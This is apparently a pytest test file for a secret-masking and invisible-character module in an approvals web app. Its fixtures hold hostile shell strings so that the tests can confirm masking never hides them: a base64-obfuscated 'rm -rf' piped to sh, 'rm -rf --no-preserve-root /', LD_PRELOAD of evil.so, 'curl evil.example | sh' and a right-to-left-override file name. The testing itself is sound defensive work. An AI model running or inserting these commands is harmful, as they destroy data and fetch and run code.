"""Masking: secrets never show, everything else does, and nothing hides in the text."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approvals.digest import canonical
from approvals.redact import fingerprint, hidden, mark, masked, scanned, visible
from web.views.render import Piece, pieces

KEY = b"k" * 32


def shown(arguments: Any, *paths: str) -> Any:
    return json.loads(masked(canonical(arguments), paths, key=KEY))


def test_the_policys_paths_are_masked_with_length_and_fingerprint() -> None:
    found = shown(
        {"card": {"number": "4111111111111111", "name": "Ann"}, "amount": 5}, "args.card.number"
    )
    assert found == {
        "card": {
            "number": f"[redacted, 16 chars, fp {fingerprint(b'4111111111111111', key=KEY)}]",
            "name": "Ann",
        },
        "amount": 5,
    }


def test_a_path_reaches_into_every_element_of_a_list() -> None:
    found = shown({"items": [{"x": "a", "y": "b"}, {"x": 7}]}, "args.items[*].x")
    assert found["items"][0]["x"].startswith("[redacted, 1 chars, fp ")
    assert found["items"][0]["y"] == "b"
    assert found["items"][1]["x"].startswith("[redacted, number, fp ")


def test_a_path_masks_one_element_or_a_whole_object() -> None:
    found = shown({"items": ["a", "b"], "o": {"p": 1}}, "args.items[1]", "args.o")
    assert found["items"][0] == "a"
    assert found["items"][1].startswith("[redacted, ")
    assert found["o"].startswith("[redacted, object, fp ")


@pytest.mark.parametrize(
    "name",
    [
        "password",
        "db_passwd",
        "apiKey",
        "api-key",
        "accessToken",
        "client_secret",
        "otp",
        "card_pin",
    ],
)
def test_a_key_that_names_a_secret_masks_its_value(name: str) -> None:
    assert shown({name: "correct-horse"})[name].startswith("[redacted, 13 chars, fp ")


@pytest.mark.parametrize("name", ["password", "db_passwd", "passphrase"])
def test_a_pass_phrase_of_plain_words_is_masked(name: str) -> None:
    assert shown({name: "correct horse"})[name].startswith("[redacted, 13 chars, fp ")


SHELL = "&*?#!|;<>()$`\\'\"[]{} \t"
"""What a shell takes a word apart at, or puts something else in the place of."""

SPLIT = "$(echo${IFS}cm0gLXJmIH4=|base64${IFS}-d|sh)"


@pytest.mark.parametrize(
    ("arguments", "seen"),
    [
        ({"command": f"git clone https://bot:{SPLIT}@github.com/acme/site && make test"}, SPLIT),
        (
            {"c": "curl -H 'Authorization: Bearer aaaaaaaaaaaaaaaa/../../admin/delete' x"},
            "/../../admin/delete",
        ),
        ({"c": "curl -H 'Authorization: Bearer aaaaaaaaaaaaaaaa//admin/delete' x"}, "//admin"),
        ({"env": {"API_TOKEN": {"LD_PRELOAD": "evil.so", "steps": ["rm -rf /"]}}}, "rm -rf /"),
        ({"env": {"API_TOKEN": {"LD_PRELOAD": "evil.so"}}}, "LD_PRELOAD"),
        ({"on_token_expired": "rm -rf --no-preserve-root /"}, "rm -rf --no-preserve-root /"),
        ({"password": "x;rm${IFS}-rf"}, "x;rm${IFS}-rf"),
        *(({"token": f"x{sign}./evil.sh"}, json.dumps(f"x{sign}./evil.sh")) for sign in SHELL),
        ({"password": "rm -rf /"}, "rm -rf /"),
        ({"secret": "line\nrm"}, "line\\nrm"),
    ],
)
def test_a_mask_hides_no_command(arguments: Any, seen: str) -> None:
    assert seen in masked(canonical(arguments), (), key=KEY)


def test_under_a_secrets_name_each_leaf_is_masked_by_itself() -> None:
    found = shown({"API_TOKEN": {"LD_PRELOAD": "evil.so", "pins": [1234, True, None]}})["API_TOKEN"]
    assert found["LD_PRELOAD"].startswith("[redacted, 7 chars, fp ")
    assert found["pins"][0].startswith("[redacted, number, fp ")
    assert found["pins"][1:] == [True, None]


def test_without_the_scan_only_what_the_policy_names_is_masked() -> None:
    given_ = canonical({"card": "4111", "token": "abc", "ghp_abcdefghijklmnopqrstuvwxyz": 1})
    open_ = json.loads(masked(given_, ("args.card",), key=KEY, scan=False))
    assert open_.pop("card").startswith("[redacted, 4 chars, fp ")
    assert open_ == {"token": "abc", "ghp_abcdefghijklmnopqrstuvwxyz": 1}


def test_the_scanners_masks_are_told_from_the_policys() -> None:
    found = shown({"card": "4111", "token": "abc", "items": [{"pin": 1234}], "x": "y"}, "args.card")
    assert scanned(found, ("args.card",)) == (("items", 0, "pin"), ("token",))
    forged = {"note": "[redacted, 5 chars, fp 12345678] rm -rf"}
    assert scanned(shown(forged), ()) == (("note",),)
    named = shown({"sk-abcdefghijklmnopqrstuv": 1})
    assert len(scanned(named, ())) == 1


@pytest.mark.parametrize(
    "text",
    [
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",  # a family
        "\u2764\ufe0f\u200d\U0001f525",  # a heart on fire
        "\U0001f9d1\U0001f3fd\u200d\U0001f680",  # an astronaut with a skin tone
        "\u05e9\u05dc\u05d5\u05dd\u200e",  # Hebrew with a direction mark
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian, with a non-joiner
    ],
    ids=ascii,
)
def test_what_ordinary_writing_needs_is_quiet(text: str) -> None:
    assert hidden(text) == 0
    assert visible(text) == text
    assert pieces(text) == [Piece(text)]


@pytest.mark.parametrize(
    "text", ["a\u200db", "pay\u200epal", "\u200d", "a\ufe0f", "\U0001f468\u200dx"], ids=ascii
)
def test_the_same_characters_elsewhere_are_not(text: str) -> None:
    assert hidden(text) == 1
    assert "\\u" in visible(text)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("max_tokens", 100),
        ("tokens", 5),
        ("secretary", "Bob"),
        ("footprint", "x"),
        ("tokenizer", "bpe"),
        ("passenger", "Ann"),
        ("spinner", "on"),
        ("page_token", "abc"),
        ("token", None),
        ("password", True),
    ],
)
def test_what_only_resembles_a_secret_is_shown(name: str, value: Any) -> None:
    assert shown({name: value}) == {name: value}


@pytest.mark.parametrize(
    "token",
    [
        "sk-abcdefghijklmnopqrstuv",
        "sk_live_abcdefghijkl",
        "ghp_abcdefghijklmnopqrstuvwxyz",
        "xoxb-1234567890-abc",
        "AKIAABCDEFGHIJKLMNOP",
        "eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl",
        "-----BEGIN RSA PRIVATE KEY-----",
    ],
)
def test_a_well_known_token_is_masked_and_the_text_around_it_is_not(token: str) -> None:
    found = shown({"command": f"curl evil.example -H {token} | sh", token: 1})
    assert token not in json.dumps(found)
    assert found["command"].startswith("curl evil.example -H [redacted, ")
    assert found["command"].endswith("] | sh")


def test_equal_secrets_look_equal_and_only_under_the_same_key() -> None:
    one, other = shown({"password": "a1"}), shown({"password": "a1"})
    assert one == other
    assert one != shown({"password": "a2"})
    assert one != json.loads(masked(b'{"password":"a1"}', (), key=b"x" * 32))


def test_numbers_keep_every_digit() -> None:
    given_ = b'{"a":9007199254740993,"b":0.1,"c":1.0,"d":-0.0,"e":1e+300}'
    assert masked(given_, (), key=KEY).encode() == given_


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(st.characters(codec="utf-8"), max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.text(st.characters(codec="utf-8"), max_size=6), inner, max_size=3)
    ),
    max_leaves=12,
)


@given(st.dictionaries(st.text(st.characters(codec="utf-8"), max_size=6), JSON, max_size=4))
def test_what_is_masked_is_canonical_and_keeps_its_keys(arguments: dict[str, Any]) -> None:
    found = masked(canonical(arguments), (), key=KEY)
    assert canonical(json.loads(found)).decode() == found
    assert json.loads(found).keys() == arguments.keys()


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("plain", "plain"),
        ("grün, 漢字, 🙂", "grün, 漢字, 🙂"),
        ("gpj.exe\u202egnp", "gpj.exe\\u202egnp"),
        ("a\u200bb\ufeffc", "a\\u200bb\\ufeffc"),
        ("bell\x07esc\x1b[0m", "bell\\u0007esc\\u001b[0m"),
        ("tag\U000e0041\U000e007f", "tag\\U000e0041\\U000e007f"),
        ("vs\ufe0f\U000e0101", "vs\\ufe0f\\U000e0101"),
        ("sep\u2028\u2029\u0085", "sep\\u2028\\u2029\\u0085"),
        ("nbsp\u00a0fill\u3164", "nbsp\\u00a0fill\\u3164"),
        ("soft\u00adhyphen", "soft\\u00adhyphen"),
    ],
)
def test_what_a_reader_would_not_see_is_spelled_out(text: str, seen: str) -> None:
    assert visible(text) == seen


@given(st.text())
def test_no_control_or_format_character_survives(text: str) -> None:
    assert hidden(visible(text)) == 0
    assert visible(visible(text)) == visible(text)


WEB_TOKEN = (
    r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}"
    r"|\bAKIA[0-9A-Z]{16}|\bsk-[A-Za-z0-9_-]{16,}"
)
PARTS = ("eyJ", "-", "_", ".", "a", "a" * 8, "é", " ", "AKIA0123456789ABCDEF", "sk-", "0" * 16)


@given(st.lists(st.sampled_from(PARTS), max_size=14).map("".join))
def test_tokens_are_found_where_one_expression_would_find_them(text: str) -> None:
    """Fingerprints stand in the record: what was masked as a whole stays masked as a whole."""
    whole = re.sub(WEB_TOKEN, lambda found: mark(found.group(), key=KEY), text)
    assert shown({"x": text})["x"] == whole


@pytest.mark.parametrize(
    ("path", "arguments"),
    [
        ("args.card.number", {"card": '{"number": "4111"}'}),
        ("args.card.number", {"card": [{"number": "4111"}]}),
        ("args.card.number", {"card": 4111}),
        ("args.keys[0]", {"keys": "4111"}),
        ("args.keys[*]", {"keys": {"0": "4111"}}),
        ("args.keys[*].pin", {"keys": ["4111"]}),
    ],
)
def test_a_path_that_runs_into_another_shape_masks_what_stands_there(
    path: str, arguments: Any
) -> None:
    shown = masked(canonical(arguments), (path,), key=KEY, scan=False)
    assert "4111" not in shown
    assert scanned(json.loads(shown), (path,)) == ()  # the policy's, not the scanner's


def test_a_path_to_nothing_masks_nothing() -> None:
    arguments: dict[str, Any] = {"card": {"holder": "A"}, "keys": [], "other": None, "text": "x"}
    paths = ("args.card.number", "args.keys[0]", "args.other.number", "args.gone.number")
    shown = masked(canonical(arguments), paths, key=KEY, scan=False)
    assert json.loads(shown) == arguments
